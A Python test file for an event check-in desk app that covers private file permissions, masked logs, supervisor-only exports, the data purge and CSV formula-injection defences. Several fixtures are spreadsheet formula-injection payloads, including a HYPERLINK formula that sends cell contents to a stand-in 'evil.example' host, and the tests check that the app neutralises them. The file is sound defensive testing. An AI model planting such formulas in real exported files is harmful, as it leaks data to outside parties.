"""Personal data: owner-only files, masked logs, supervisor-only exports, CSV injection, the purge."""

from __future__ import annotations

import csv
import logging
import os
import stat
from pathlib import Path

import openpyxl
import pytest

from checkin_desk import reports
from checkin_desk.cli import main
from checkin_desk.services.purge import purge_event
from checkin_desk.trust import keys, roles
from checkin_desk.trust.personal_data import PurgeRefused, export_attendees
from checkin_desk.trust.roles import AuthorizationError, Role
from checkin_desk.util import privacy
from checkin_desk.util.csvsafe import SafeWriter, neutralise
from tests.conftest import search_terms


def mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def test_database_and_its_wal_and_shm_are_owner_only(desk):
    desk.scan("SCE-1")
    path = desk.store.path
    for suffix in ("", "-wal", "-shm"):
        assert os.path.exists(path + suffix)
        assert mode(path + suffix) == 0o600, suffix


def test_key_file_and_folder_are_owner_only_and_never_overwritten(tmp_path):
    path, public = keys.generate()
    assert mode(path) == 0o600 and mode(path.parent) == 0o700
    assert keys.matches(keys.load_private(path), public)
    with pytest.raises(keys.KeyFileError, match="never overwritten"):
        keys.generate(path)


def test_log_file_is_owner_only_and_masks_emails_and_phones(isolated_home):
    handler = privacy.setup_file_logging()
    try:
        log = logging.getLogger("checkin_desk.test")
        log.warning("walk-in %s <%s> tel %s", "Karim Tazi", "karim.tazi@example.ma", "+212 661-234567")
        try:
            raise ValueError("bad row: salma@berrada.ma")
        except ValueError:
            log.exception("import failed")
        handler.flush()
        path = handler.baseFilename
        with open(path, encoding="utf-8") as fh:
            text = fh.read()
    finally:
        logging.getLogger("checkin_desk").removeHandler(handler)
        handler.close()
    assert mode(path) == 0o600 and mode(os.path.dirname(path)) == 0o700
    assert "karim.tazi@example.ma" not in text and "k***@example.ma" in text
    assert "661-234567" not in text and "[phone …67]" in text
    assert "salma@berrada.ma" not in text and "s***@berrada.ma" in text


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("benoit@lydec.ma", "b***@lydec.ma"),
        ("+212 6 61 23 45 67", "[phone …67]"),
        ("0661234567", "[phone …67]"),
        (
            "scan at 2027-04-18T09:00:00.000+00:00 of SCE-12345678",
            "scan at 2027-04-18T09:00:00.000+00:00 of SCE-12345678",
        ),
        ("job 3 of 12", "job 3 of 12"),
    ],
)
def test_mask(text, masked):
    assert privacy.mask(text) == masked


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ('=HYPERLINK("http://evil.example/?"&A2,"clic")', '\'=HYPERLINK("http://evil.example/?"&A2,"clic")'),
        ("+212661234567", "'+212661234567"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Benoît", "Benoît"),
        (-3, -3),
    ],
)
def test_csv_injection_is_neutralised(value, safe):
    assert neutralise(value) == safe


def test_safe_writer(tmp_path):
    with open(tmp_path / "x.csv", "w", newline="") as fh:
        SafeWriter(fh).writerow(["=1+1", "ok"])
    assert (tmp_path / "x.csv").read_bytes() == b"'=1+1,ok\r\n"


def test_attendee_export_needs_a_supervisor_and_is_private(desk, supervisor, operator, tmp_path):
    desk.edit_attendee(
        "SCE-1",
        {"company": '=HYPERLINK("http://evil.example","x")'},
        authorized_by=roles.authorize(desk.store, Role.SUPERVISOR, "Youssef", "730264"),
    )
    out = tmp_path / "list.csv"
    with pytest.raises(AuthorizationError):
        export_attendees(desk.store, out, claimed="amina")
    with pytest.raises(AuthorizationError):
        export_attendees(
            desk.store, out, authorized_by=roles.authorize(desk.store, Role.OPERATOR, "Amina", "5821")
        )
    assert not out.exists()
    boss = roles.authorize(desk.store, Role.SUPERVISOR, "Youssef", "730264")
    assert export_attendees(desk.store, out, authorized_by=boss) == 6
    assert mode(out) == 0o600
    with out.open(encoding="utf-8-sig") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["company"].startswith("'=HYPERLINK")
    assert desk.store.conn.execute(
        "SELECT count(*) FROM audit_log WHERE action = 'export_attendees'"
    ).fetchone()[0]


def test_purge_keeps_anonymous_counts_and_removes_personal_data(desk, clock):
    desk.scan("SCE-1")
    desk.scan("SCE-2")
    desk.scan("NOT-A-CODE")
    clock.advance(86400)
    desk.scan("SCE-1")
    desk.scan("SCE-6")
    desk.register_walk_in(first_name="Karim", last_name="Tazi", email="karim@tazi.ma", category="press")
    store = desk.store
    # A scratch search index that a killed import left minutes ago: it holds words of names.
    scratch = Path(store.path).parent / ".import-search-killed.sqlite"
    scratch.write_bytes("Lefèvre".encode())
    before = {by: reports.counts(store, by) for by in ("day", "category", "desk")}
    total = reports.totals(store)
    with pytest.raises(PurgeRefused, match="not been sent to the hub"):
        purge_event(store)
    report = purge_event(store, force=True)
    assert report.attendees == 7 and report.scans == 6
    assert {by: reports.counts(store, by) for by in before} == before
    assert reports.totals(store) == total
    # Every stored row of every table (the search index's shadow tables included; iterdump cannot
    # read the contentless index itself).
    tables = store.conn.execute(
        "SELECT name FROM sqlite_master WHERE type = 'table' AND sql NOT LIKE 'CREATE VIRTUAL%'"
    )
    dump = "\n".join(
        repr(row) for (table,) in tables.fetchall() for row in store.conn.execute(f'SELECT * FROM "{table}"')
    )
    assert "'purged'" in dump  # the attendee rows are in it
    for secret in (
        "Benoît",
        "Lefèvre",
        "benoit@lydec.ma",
        "Karim",
        "karim@tazi.ma",
        "Lydec",
        "SCE-1",
        "NOT-A-CODE",
    ):
        assert secret not in dump, secret
    assert store.search("Benoit") == [] and not scratch.exists()
    assert search_terms(store.conn) == []
    # The file itself no longer holds the names either (secure_delete + VACUUM + WAL truncated).
    store.conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    for suffix in ("", "-wal"):
        if os.path.exists(store.path + suffix):
            with open(store.path + suffix, "rb") as fh:
                raw = fh.read()
            assert "Lefèvre".encode() not in raw and b"karim@tazi.ma" not in raw, suffix
    assert (
        store.conn.execute("SELECT action FROM audit_log ORDER BY id DESC LIMIT 1").fetchone()[0] == "purge"
    )


def test_purge_needs_an_admin_once_staff_exist(desk, supervisor):
    boss = roles.authorize(desk.store, Role.SUPERVISOR, "Youssef", "730264")
    with pytest.raises(AuthorizationError, match="needs an admin"):
        purge_event(desk.store, authorized_by=boss, force=True)


def test_codes_sign_command_writes_the_list_with_signed_codes(store, tmp_path, capsys, clock):
    assert main(["--db", store.path, "keys", "init"]) == 0
    assert main(["--db", store.path, "keys", "init"]) == 1  # never replaces the event key
    src = tmp_path / "list.csv"
    src.write_text(
        'Code;Prénom;Nom;Société;Catégorie\nR-1;Leila;Bennani;=HYPERLINK("x");vip\nR-2;Omar;Idrissi;ONCF;\n;No;Code;;\n',
        encoding="utf-8",
    )
    out = tmp_path / "signed.csv"
    assert main(["--db", store.path, "codes", "sign", str(src), "--out", str(out)]) == 0
    assert "2 rows signed, 1 left without a signed code" in capsys.readouterr().out
    assert mode(out) == 0o600
    with out.open(encoding="utf-8-sig") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    assert rows[0] == ["Code", "Prénom", "Nom", "Société", "Catégorie", "signed_code"]
    assert rows[1][3] == '\'=HYPERLINK("x")'
    assert rows[1][5].startswith("S1:") and rows[3][5] == ""
    # A desk that only has the public key admits the signed code of an attendee it has never seen.
    from checkin_desk.domain.models import Status
    from checkin_desk.services.desk import Desk

    assert Desk(store, "desk-2", clock=clock).scan(rows[1][5]).status is Status.OK
    xlsx = tmp_path / "signed.xlsx"
    assert main(["--db", store.path, "codes", "sign", str(src), "--out", str(xlsx)]) == 0
    sheet = openpyxl.load_workbook(xlsx).worksheets[0]
    assert sheet["D2"].value == '=HYPERLINK("x")' and sheet["D2"].data_type == "s"  # text, not a formula
    assert sheet["F2"].value == rows[1][5]
